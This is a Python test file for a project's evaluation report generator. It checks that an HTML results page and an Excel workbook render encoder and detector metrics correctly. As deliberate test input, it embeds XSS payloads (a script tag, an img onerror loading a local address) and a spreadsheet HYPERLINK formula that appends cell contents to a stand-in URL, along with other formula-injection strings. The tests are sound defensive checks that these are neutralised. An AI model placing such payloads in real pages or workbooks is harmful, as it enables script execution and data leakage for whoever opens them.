"""Page and workbook of an evaluation: they show what was measured, and no text of the data acts."""

import base64
import io
import re
import shutil
import subprocess
import zipfile

import numpy as np
import openpyxl
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from lxml import etree, html
from PIL import Image

from wearalike.evaluation import compare_encoders, query_examples, report, report_page, workbook
from wearalike.evaluation import figures as evaluation_figures
from wearalike.evaluation.pivot import leaders
from wearalike.evaluation.plots import PlotLine
from wearalike.evaluation.report import (
    EvaluationReport,
    ReportExample,
    ReportExampleGroup,
    ReportImage,
    TrainingCurves,
    VersionComparison,
)
from wearalike.evaluation.report_page import render_html, write_html
from wearalike.imaging import decode
from wearalike.metrics.bootstrap import bootstrap_mean
from wearalike.metrics.categories import compare_categories
from wearalike.metrics.classification import compute_classifier_metrics
from wearalike.metrics.detection import Boxes, compute_detection_metrics

HOSTILE = (
    "<script>alert(1)</script>\"'><img src=http://127.0.0.1:9/x onerror=alert(1)>"
    "{{ 7 * 7 }} $\\frac{1}{0}$"
)
FORMULA = '=HYPERLINK("http://127.0.0.1:9/"&A1,"click")'
QUERIES = 200


def row(encoder, distance, name, value, low=None, high=None, k=10):
    words = dict(
        dataset="shop", split="test", encoder=encoder, distance=distance, measure=name, k=k
    )
    return words | dict(value=value, low=low, high=high, queries=QUERIES)


def measured():
    """Return rows and values of three encoders.

    By type the first is far better than both others; by colour nothing separates it from the
    second.
    """
    rng = np.random.default_rng(0)
    hard = rng.random(QUERIES) / 2
    values = {
        ("new", "hamming 1:1"): {
            "type": hard + 0.4,
            "colour": hard + rng.normal(0, 0.1, QUERIES) + 0.3,
        },
        ("old", "hamming 1:1"): {
            "type": hard + rng.normal(0, 0.1, QUERIES),
            "colour": hard + rng.normal(0, 0.1, QUERIES) + 0.3,
        },
        (HOSTILE, "cosine"): {"type": hard * 0.5, "colour": hard * 0.5},
    }
    rows = []
    for (encoder, distance), each in values.items():
        for name, v in each.items():
            e = bootstrap_mean(v)
            rows.append(row(encoder, distance, name, e.value, e.low, e.high))
        rows += [
            row(encoder, distance, "images a second", 1234.0, k=None),
            row(encoder, distance, "bytes an image", 32.0, k=None),
        ]
    return rows, {
        ("shop", "test", *who): {(n, 10): v for n, v in each.items()}
        for who, each in values.items()
    }


def parsed(evaluation):
    text = render_html(evaluation)
    tree = html.fromstring(text)
    assert tree.xpath("//section") or not evaluation.rows
    return tree


def table_of(section):
    """Header and rows, by text, of its first table."""
    header, *rows = (
        [" ".join(cell.text_content().split()) for cell in tr.xpath("./th|./td")]
        for tr in section.xpath("(.//table)[1]//tr")
    )
    return header, rows


def words(address):
    """Return the texts of a plot: letters are outlines, with each text beside them as a comment."""
    svg = etree.fromstring(base64.b64decode(address.partition(",")[2]))
    return {comment.text.strip() for comment in svg.iter(etree.Comment)}


def jpeg(colour, size=(300, 200)):
    out = io.BytesIO()
    Image.new("RGB", size, colour).save(out, "JPEG")
    return out.getvalue()


def metrics_with_hits(**right):
    """Return metrics of a detector that finds so many of ten a category.

    It has a stray box for each one that it misses.
    """
    box = (0, 0, 10, 10)
    truths = Boxes.from_rows([(str(i), c, box, 1) for c in right for i in range(10)])
    boxes = Boxes.from_rows(
        [(str(i if i < n else 10 + i), c, box, 0.9) for c, n in right.items() for i in range(10)]
    )
    return compute_detection_metrics(truths, boxes, [str(i) for i in range(20)], 0.5)


def test_a_star_stands_only_where_the_paired_interval_leaves_out_0():
    rows, values = measured()
    assert leaders(rows, values) == {("shop", "test", "type", 10): ("new", "hamming 1:1")}
    assert leaders(rows, {}) == {}
    del values["shop", "test", HOSTILE, "cosine"]
    assert leaders(rows, values) == {}, "who could not be compared may be better"
    alone = [r for r in rows if r["encoder"] == "new"]
    assert leaders(alone, measured()[1]) == {}
    tree = parsed(EvaluationReport("t", rows, values=measured()[1]))
    (cell,) = tree.xpath("//td[contains(@class, 'best')]")
    assert cell.text_content().startswith(
        f"{rows[0]['value']:.3f}"
    ) and cell.getparent().text_content().startswith("new")
    assert parsed(EvaluationReport("t", rows)).xpath("//td[contains(@class, 'best')]") == []


def test_the_table_is_encoders_by_labels():
    rows, values = measured()
    header, lines = table_of(
        parsed(EvaluationReport("t", rows, values=values)).xpath("//section")[0]
    )
    assert header == [
        "encoder",
        "type200 queries",
        "colour200 queries",
        "images a second",
        "bytes an image",
    ]
    assert [line[0] for line in lines] == ["newhamming 1:1", "oldhamming 1:1", f"{HOSTILE}cosine"]
    old = rows[4]
    assert lines[1][1:] == [
        f"{old['value']:.3f}{old['low']:.3f} to {old['high']:.3f}",
        *[f"{r['value']:.3f}{r['low']:.3f} to {r['high']:.3f}" for r in rows[5:6]],
        "1,234",
        "32",
    ]


def test_bars_show_each_encoder_once_by_its_best_distance_highest_first():
    rows = [
        row("a", "cosine", "type", 0.2),
        row("a", "euclidean", "type", 0.4, 0.35, 0.45),
        row("b", "cosine", "type", 0.9, 0.85, 0.95),
    ]
    tree = parsed(EvaluationReport("t", rows))
    bars = tree.xpath("//div[starts-with(@class, 'bar')]")
    assert [" ".join(b.text_content().split()) for b in bars] == [
        "bcosine 0.900",
        "aeuclidean 0.400",
    ]
    widths = [
        float(re.search(r"width:([\d.]+)%", b.xpath(".//*[@class='fill']/@style")[0])[1])
        for b in bars
    ]
    assert widths == pytest.approx([100 * 0.9 / 0.95, 100 * 0.4 / 0.95], abs=0.01)


def test_what_was_not_measured_is_left_empty():
    rows = [
        row("a", "cosine", "type", None),
        row("a", "cosine", "colour", 0.5),
        row("b", "cosine", "type", 0.1),
    ]
    _, lines = table_of(parsed(EvaluationReport("t", rows)))
    assert lines == [["acosine", "", "0.500"], ["bcosine", "0.100", ""]]
    assert (
        parsed(EvaluationReport("nothing at all")).xpath("//main")[0].text_content().strip() == ""
    )


def test_weights_and_speed_are_plotted_where_there_are_any():
    rows = [
        row("a", f"hamming {w}", "type", v, v - 0.1, v + 0.1)
        for w, v in [("1:0", 0.9), ("1:1", 0.8), ("0:1", 0.2)]
    ]
    plots = parsed(EvaluationReport("t", rows)).xpath("//img/@alt")
    assert plots == ["a: precision@10 by weight"]
    rows += [
        row("b", "cosine", "type", 0.5),
        row("a", "", "images a second", 10.0, k=0),
        row("b", "", "images a second", 1000.0, k=0),
    ]
    tree = parsed(EvaluationReport("t", rows))
    assert tree.xpath("//img/@alt") == ["a: precision@10 by weight", "Speed and type@10"]
    assert {"1:0", "1:1", "0:1"} <= words(tree.xpath("//img/@src")[0])
    assert {"10", "1,000"} <= words(tree.xpath("//img/@src")[1])
    rows[-1] = row("b", "", "images a second", 15.0, k=0)
    assert words(parsed(EvaluationReport("t", rows)).xpath("//img/@src")[1]) >= {"10", "20"}, (
        "a narrow range is marked too"
    )
    assert [li.text_content() for li in tree.xpath("//figure//li")] == ["a", "b"]
    assert render_html(EvaluationReport("t", rows)) == render_html(EvaluationReport("t", rows)), (
        "the same figures give the same bytes"
    )


def everything(hostile=HOSTILE):
    rows, values = measured()
    gains = [
        row("new", "hamming 1:1", "type", 0.4, 0.38, 0.42),
        row("old", "hamming 1:1", "type", -0.1, -0.2, -0.05),
    ]
    strip = ReportExample(
        ReportImage(jpeg("red"), hostile),
        [ReportImage(jpeg("red"), hostile, True), ReportImage(jpeg("blue"), "", False)],
        hostile,
    )
    rows_of = compare_categories(
        metrics_with_hits(bag=9, boot=5, **{hostile: 4}), metrics_with_hits(bag=5, boot=8)
    )
    names = ["front", hostile]
    now, before = (
        compute_classifier_metrics(["front", hostile, "front"], np.array(s, float), names)
        for s in ([[1, 0], [0, 1], [0, 1]], [[0, 1]] * 3)
    )
    return EvaluationReport(
        hostile,
        rows,
        {hostile: hostile},
        values,
        hostile,
        gains,
        [ReportExampleGroup(hostile, [strip], hostile)],
        [
            VersionComparison("detector", hostile, "test", "garments-2", hostile, rows_of, hostile),
            VersionComparison(
                "classifier",
                "x",
                "test",
                hostile,
                "v0",
                compare_categories(now.rows, before.rows, "tpr"),
                "",
                ("tpr",),
                now,
                before,
            ),
        ],
        [
            TrainingCurves(
                hostile,
                hostile,
                hostile,
                [PlotLine(hostile, [0, 1], [1, 0]), PlotLine("$", [0, 1], [1, 2])],
            )
        ],
    )


def test_no_text_does_anything_and_nothing_is_fetched(tmp_path):
    path = write_html(tmp_path, everything())
    assert path == tmp_path / "evaluation.html" and list(tmp_path.iterdir()) == [path]
    text = path.read_text(encoding="utf-8")
    tree = html.fromstring(text)
    assert not tree.xpath("//script|//link|//iframe|//object|//base|//form")
    assert not [a for e in tree.iter() for a in e.attrib if a.startswith("on")]
    addresses = tree.xpath("//@src|//@href|//@action")
    assert len(addresses) > 8 and all(a.startswith(("data:image/", "#")) for a in addresses)
    assert (
        "default-src 'none'; img-src data:" in text
        and "49 $" not in text
        and "@import" not in text
        and "url(" not in text
    )
    assert tree.xpath("//h1")[0].text == HOSTILE
    svgs = [
        base64.b64decode(a.partition(",")[2]) for a in addresses if a.startswith("data:image/svg")
    ]
    assert len(svgs) >= 2
    for svg in svgs:
        names = {
            etree.QName(e).localname for e in etree.fromstring(svg).iter() if isinstance(e.tag, str)
        }
        assert "path" in names and not names & {"script", "image", "foreignObject", "a"}


def test_pictures_are_small_and_marked():
    tree = parsed(everything("plain"))
    strip = tree.xpath("//section[@id='strips']//div[@class='strip']")[0]
    assert [f.get("class") for f in strip.xpath(".//figure")] == ["query", "right", "wrong"]
    shown = [
        Image.open(io.BytesIO(base64.b64decode(src.partition(",")[2])))
        for src in strip.xpath(".//img/@src")
    ]
    assert {s.size for s in shown} == {
        (report_page.THUMBNAIL_PX, report_page.THUMBNAIL_PX * 2 // 3)
    }
    red, blue = (np.asarray(shown[i]).mean(axis=(0, 1)) for i in (1, 2))
    assert red[0] > 200 > 50 > red[2] and blue[2] > 200 > 50 > blue[0]
    with pytest.raises(decode.BadPixels, match="not_a_picture"):
        render_html(
            EvaluationReport(
                "t",
                strips=[
                    ReportExampleGroup("s", [ReportExample(ReportImage(b"rubbish of no kind"), [])])
                ],
            )
        )


def test_versions_stand_worst_first_and_coloured_by_what_is_better():
    rows = compare_categories(
        metrics_with_hits(bag=9, boot=5, hat=3), metrics_with_hits(bag=5, boot=8)
    )
    tree = parsed(
        EvaluationReport(
            "t",
            versions=[
                VersionComparison(
                    "detector", "street", "test", "v2", "v1", rows, measures=("tpr", "fpr")
                )
            ],
        )
    )
    _, _, *lines = tree.xpath("//section[@id='versions-1']//tr")
    cells = {tr[0].text_content(): [td.text_content().strip() for td in tr[2:]] for tr in lines}
    assert list(cells) == ["all", "boot", "bag", "hatnew"]
    assert cells["boot"] == [
        "0.500",
        "0.800",
        "-0.300",
        "0.500",
        "0.200",
        "+0.300",
        "10",
        "5",
        "5",
        "5",
    ]
    assert cells["hatnew"] == ["0.300", "", "", "0.700", "", "", "10", "3", "7", "7"]
    colours = {
        tr[0].text_content(): [tr[4].get("class").split()[-1], tr[7].get("class").split()[-1]]
        for tr in lines[:3]
    }
    assert colours["boot"] == ["down", "down"] and colours["bag"] == ["up", "up"]
    (first,) = [
        VersionComparison(
            "detector",
            "street",
            "test",
            "v2",
            None,
            compare_categories(metrics_with_hits(bag=9)),
            measures=("tpr",),
        )
    ]
    assert "no earlier version" in parsed(EvaluationReport("t", versions=[first])).text_content()


def test_a_classifiers_confusion_and_mistakes():
    tree = parsed(everything("back"))
    section = tree.xpath("//section[@id='versions-2']")[0]
    confusion = section.xpath(".//table[@class='confusion']//tr")[1:]
    assert [[c.text_content() for c in tr] for tr in confusion] == [
        ["front", "1", "1"],
        ["back", "0", "1"],
    ]
    mistakes = section.xpath(".//h3[starts-with(text(), 'Most')]/following-sibling::div//tr")[1:]
    assert [[c.text_content() for c in tr] for tr in mistakes] == [["front", "back", "1", "0.500"]]
    assert "0.667" in section.xpath(".//div[@class='tile']/b")[0].text


def test_gains_are_coloured_only_where_the_interval_leaves_out_0():
    rows = [row("old", "cosine", "type", 0.5), row("new", "cosine", "type", 0.6)]
    gains = [
        row(e, "cosine", "type", v, low, high)
        for e, v, low, high in [
            ("a", 0.1, 0.05, 0.2),
            ("b", 0.1, -0.01, 0.2),
            ("c", -0.2, -0.3, -0.1),
        ]
    ]
    tree = parsed(EvaluationReport("t", rows, reference="old", differences=gains))
    values = tree.xpath("//details[contains(., 'differences from old')]//td/b[contains(., '0.')]")
    assert [(b.text, b.get("class")) for b in values] == [
        ("+0.100", "up"),
        ("+0.100", ""),
        ("-0.200", "down"),
    ]


def test_results_of_the_comparison_become_a_page(tmp_path):
    rows, values = measured()
    for name in ("query", "right", "wrong"):
        (tmp_path / f"{name}.jpg").write_bytes(jpeg("green"))
    queries = [
        pa.table(
            {
                **{
                    n: [w] * 2 * QUERIES
                    for n, w in zip(("dataset", "split", "encoder", "distance"), who, strict=True)
                },
                "measure": [n for n, _ in each for _ in range(QUERIES)],
                "k": pa.array([10] * 2 * QUERIES, pa.int32()),
                "query": [f"{i}.jpg" for i in range(QUERIES)] * 2,
                "value": np.concatenate(list(each.values())),
            }
        )
        for who, each in values.items()
    ]
    shown = [(tmp_path / f"{name}.jpg", f"a {name}") for name in ("query", "right", "wrong")]
    strip = query_examples.QueryExample(
        "shop", "new", "hamming 1:1", "type", 0.5, shown[0], tuple(shown[1:]), (True, False), True
    )
    gains = [
        row("new", "hamming 1:1", "type", 0.4, 0.3, 0.5)
        | {"reference": "old", "reference_distance": "hamming 1:1"}
    ]
    evaluation = report.build_report(
        "Encoders",
        compare_encoders.EncoderResults(rows, gains, queries, [strip]),
        {"made": "today"},
    )
    assert leaders(evaluation.rows, evaluation.values) == {
        ("shop", "test", "type", 10): ("new", "hamming 1:1")
    }
    tree = parsed(evaluation)
    assert [f.text_content().strip() for f in tree.xpath("//figcaption")] == [
        "a query",
        "a right",
        "a wrong",
    ]
    assert (
        "differences from old" in tree.text_content()
        and "shop: new, hamming 1:1: best by type" in tree.text_content()
    )


# The workbook.


def figures():
    """Return figures of two detectors, and of encoders with hostile names.

    The names are formulas, wildcards, differ in case only, or are too long for a sheet.
    """
    names = [
        FORMULA,
        "a*",
        "A*",
        "ab",
        "x" * 40,
        "x" * 41,
        "History",
        "'quoted'",
        "+1",
        "-1",
        "@SUM(1)",
        "#N/A",
        "a[b]:c/d?\\",
        "\x07bell",
    ]
    rows = [
        row(n, "hamming 1:1", m, i / 100 + j, i / 100, None)
        for i, n in enumerate(names)
        for j, m in enumerate(("type", FORMULA))
    ]
    rows += [
        row("ab", "cosine", "type", 0.7),
        row("ab", "", "bytes an image", 32.0, k=None),
        row("a*", "cosine", "type", None),
    ]
    detectors = [
        ("garments-1", metrics_with_hits(bag=5, boot=8)),
        ("garments-2", metrics_with_hits(bag=9, hat=3)),
    ]
    return evaluation_figures.retrieval_figures(rows) + [
        f
        for v, r in detectors
        for f in evaluation_figures.category_figures("detector", v, "street", "test", r)
    ]


@pytest.fixture
def book(tmp_path):
    workbook.write_workbook(tmp_path / "evaluation.xlsx", figures())
    return tmp_path / "evaluation.xlsx"


def test_no_text_becomes_a_formula(book):
    sheets = openpyxl.load_workbook(book).worksheets
    cells = [c for s in sheets for tr in s.iter_rows() for c in tr if c.value is not None]
    ours = re.compile(
        r"=(SUMPRODUCT\(EXACT\(versions!|IFERROR\(MATCH\(\$A\$[34]\*|IF\(\$[OP]\d+=0,|IF\(AND\(ISNUMBER\(H)"
    )
    formulas = [c for c in cells if c.data_type not in ("s", "n")]
    assert len(formulas) > 100 and all(
        c.data_type == "f" and ours.match(c.value) and c.parent.title.startswith("compare ")
        for c in formulas
    )
    texts = {c.value for c in cells if c.data_type == "s"}
    assert {FORMULA, "+1", "-1", "@SUM(1)", "#N/A", "\ufffdbell"} <= texts
    marked = [c for c in cells if c.data_type == "s" and c.value[0] in "=+-@'"]
    assert marked and all(c.quotePrefix for c in marked)
    with zipfile.ZipFile(book) as parts:
        assert not [
            n
            for n in parts.namelist()
            if "external" in n.lower() or "vba" in n.lower() or "connections" in n
        ]
        assert not [
            n for n in parts.namelist() if n.endswith(".rels") and b"External" in parts.read(n)
        ]


def test_sheet_names_are_legal_and_unique(book):
    names = openpyxl.load_workbook(book).sheetnames
    assert names[:2] == ["compare encoders", "compare detectors"] and names[-4:] == [
        "garments-1",
        "garments-2",
        "versions",
        "figures",
    ]
    assert len({n.casefold() for n in names}) == len(names) == 20
    assert all(
        0 < len(n) <= 31 and not re.search(r"[\[\]:*?/\\']", n) and n.casefold() != "history"
        for n in names
    )


def test_each_version_has_its_sheet(book):
    sheets = openpyxl.load_workbook(book)
    header, *rows = sheets["ab"].iter_rows(values_only=True)
    assert header == tuple(
        n for n in evaluation_figures.FIGURES_SCHEMA.names if n not in ("kind", "version")
    )
    assert [(r[0], r[4], r[6]) for r in rows] == [
        ("hamming 1:1", "type", 0.03),
        ("hamming 1:1", FORMULA, 1.03),
        ("cosine", "type", 0.7),
        (None, "bytes an image", 32),
    ]
    assert {r[3] for r in sheets["garments-2"].iter_rows(min_row=2, values_only=True)} == {
        "all",
        "bag",
        "hat",
    }


def value_of(rows, contestant, key):
    """Return the long table's value: contestant (version, distance), key (category, measure)."""
    mine = [
        f
        for f in rows
        if f["version"] == contestant[0]
        and f["distance"] in (contestant[1], "")
        and (f["category"], f["measure"]) == key
    ]
    return mine[0]["value"] if mine else None


CHOICES = [
    ("compare encoders", ("ab", "hamming 1:1"), ("ab", "cosine")),
    ("compare encoders", (FORMULA, "hamming 1:1"), ("A*", "hamming 1:1")),
    ("compare encoders", ("a*", "cosine"), ("x" * 41, "hamming 1:1")),
    ("compare detectors", ("garments-2", ""), ("garments-1", "")),
]


@pytest.mark.skipif(not shutil.which("soffice"), reason="no LibreOffice to reckon the formulas")
def test_the_formulas_compare_any_two(book, tmp_path):
    rows, paths = figures(), [tmp_path / f"{i}.xlsx" for i in range(len(CHOICES))]
    for path, (sheet, *chosen) in zip(paths, CHOICES, strict=True):
        opened = openpyxl.load_workbook(book)
        labels = {
            (r[2], r[3] or ""): r[0]
            for r in opened["versions"].iter_rows(min_row=2, values_only=True)
        }
        for cell, contestant in zip(("C3", "C4"), chosen, strict=True):
            opened[sheet][cell].value = labels[contestant]
            opened[sheet][cell].data_type = "s"
        opened.save(path)
    office = [
        "soffice",
        f"-env:UserInstallation=file://{tmp_path}/office",
        "--headless",
        "--convert-to",
        "xlsx",
    ]
    subprocess.run(
        [*office, "--outdir", tmp_path / "out", *paths],
        check=True,
        capture_output=True,
        timeout=120,
    )
    for path, (sheet, *chosen) in zip(paths, CHOICES, strict=True):
        opened = openpyxl.load_workbook(tmp_path / "out" / path.name, data_only=True)
        reckoned = list(opened[sheet].iter_rows(min_row=7, values_only=True))
        assert len(reckoned) > 2 and any(r[10] is not None for r in reckoned)
        for r in reckoned:
            now, before = (value_of(rows, c, (r[3], r[4])) for c in chosen)
            assert r[7] == pytest.approx(now) and r[10] == pytest.approx(before), r
            assert r[13] == (
                None if now is None or before is None else pytest.approx(now - before)
            ), r


def test_the_lookups_lead_to_the_figures_they_name(book):
    """The same without a spreadsheet: each number that a formula looks up occurs once.

    It stands beside its contestant's figure.
    """
    opened = openpyxl.load_workbook(book)
    contestants = {
        number: r
        for number, r in enumerate(opened["versions"].iter_rows(min_row=2, values_only=True), 1)
    }
    long = list(opened["figures"].iter_rows(min_row=2, values_only=True))
    lookups = [r[0] for r in long]
    assert len(set(lookups)) == len(lookups) > 50
    keys = {
        r[0]: r[1:6]
        for s in opened.worksheets[:2]
        for r in s.iter_rows(min_row=7, values_only=True)
    }
    for lookup, kind, version, distance, *key in (r[:9] for r in long):
        assert contestants[lookup // 1_000_000][1:4] == (kind, version, distance)
        assert keys[lookup % 1_000_000] == tuple(key)
    for sheet, first in (("compare encoders", 2), ("compare detectors", None)):
        (choice,) = opened[sheet].data_validations.dataValidation
        assert str(choice.sqref) == "C3:C4" or set(str(choice.sqref).split()) == {"C3", "C4"}
        low, high = map(
            int, re.fullmatch(r"=?versions!\$A\$(\d+):\$A\$(\d+)", choice.formula1).groups()
        )
        listed = [opened["versions"].cell(i, 2).value for i in range(low, high + 1)]
        assert set(listed) == {sheet[8:-1]} and (first is None or low == first)


def test_a_figure_given_twice_is_refused(tmp_path):
    rows = evaluation_figures.retrieval_figures(
        [row("a", "cosine", "type", 0.1), row("a", "cosine", "type", 0.2)]
    )
    with pytest.raises(ValueError, match="encoder a cosine has shop, test, all, type, 10 twice"):
        workbook.write_workbook(tmp_path / "x.xlsx", rows)
    with pytest.raises(ValueError, match="none"):
        workbook.write_workbook(tmp_path / "x.xlsx", [])
    assert list(tmp_path.iterdir()) == []


def test_the_same_as_parquet(tmp_path):
    rows = figures()
    evaluation_figures.write_parquet(tmp_path / "evaluation.parquet", rows)
    table = pq.read_table(tmp_path / "evaluation.parquet")
    assert table.schema.equals(evaluation_figures.FIGURES_SCHEMA) and table.num_rows == len(rows)
    first = table.to_pylist()[0]
    assert (first["version"], first["measure"], first["value"], first["count"]) == (
        FORMULA,
        "type",
        0.0,
        QUERIES,
    )
    hats = {
        r["measure"]: r["value"]
        for r in table.to_pylist()
        if (r["category"], r["version"]) == ("hat", "garments-2")
    }
    assert (hats["tp"], hats["tpr"], hats["fpr"]) == (3, 0.3, 0.7)
    nothing = evaluation_figures.category_figures(
        "classifier",
        "v",
        "d",
        "test",
        compute_classifier_metrics(["a"], np.array([[1.0, 0]]), ["a", "b"]).rows,
    )
    assert {f["measure"] for f in nothing} == {
        "truths",
        "tp",
        "fp",
        "fn",
        "tpr",
        "fpr",
        "precision",
    }
    evaluation_figures.write_parquet(tmp_path / "classifier.parquet", nothing)
    values = {
        (r["category"], r["measure"]): r["value"]
        for r in pq.read_table(tmp_path / "classifier.parquet").to_pylist()
    }
    assert values["b", "tpr"] is None and values["a", "tpr"] == 1
